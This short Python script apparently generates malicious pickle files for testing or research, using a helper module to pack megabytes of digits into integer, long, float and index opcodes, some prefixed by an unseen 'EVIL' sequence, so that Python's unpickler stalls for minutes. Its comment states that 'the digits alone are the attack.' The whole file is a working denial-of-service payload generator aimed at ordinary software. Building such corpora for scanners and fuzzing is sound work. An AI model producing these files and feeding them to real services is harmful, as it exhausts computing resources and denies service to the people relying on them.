# Megabytes of digits, over which Python would brood for minutes.
from pickle_asm import *


save("int.pkl", EVIL + POP + b"I" + b"9" * 2000000 + b"\n" + STOP)
save("long.pkl", EVIL + POP + b"L" + b"7" * 2000000 + b"L\n" + STOP)
save("float.pkl", EVIL + POP + b"F" + b"1" * 1000000 + b"e-999999\n" + STOP)
save("long4.pkl", proto(4) + EVIL4 + POP + b"\x8b" + u32(1000000) + b"\x7f" * 1000000 + STOP)
save("index.pkl", EVIL + b"g" + b"0" * 100000 + b"\n" + STOP)
# Nothing is called: the digits alone are the attack.
save("int_alone.pkl", proto(2) + b"I" + b"9" * 100000 + b"\n" + STOP)
save("long_alone.pkl", proto(2) + b"L" + b"7" * 100000 + b"L\n" + STOP)
